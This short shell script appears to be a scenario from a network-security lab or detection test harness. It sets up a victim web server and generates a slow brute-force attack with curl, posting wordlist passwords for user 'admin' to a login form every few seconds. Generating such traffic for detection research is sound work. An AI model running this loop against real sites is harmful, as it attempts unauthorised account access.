# SPDX-License-Identifier: MIT
# label: bruteforce-web
# source: lab-curl
# needs: curl nginx
# seconds: 150
# A password of a form every few seconds, the page fetched before each.
. $lab/victims.sh

servers() {
	victim_site e 80
	words_up 60
}

scenario() {
	_gap=$(choose 2 4 5)
	mix benign/monitoring
	setting options "every $_gap s"
	# shellcheck disable=SC2016
	attack x e tcp 80 -- timeout 130 sh -c 'while read -r p; do
		curl -s -o /dev/null "http://$1/form/login"
		curl -s -o /dev/null -d "user=admin&pass=$p" "http://$1/form/login"
		sleep "$2"; done <"$3"' sh "$(addr e)" "$_gap" "$work/words"
}
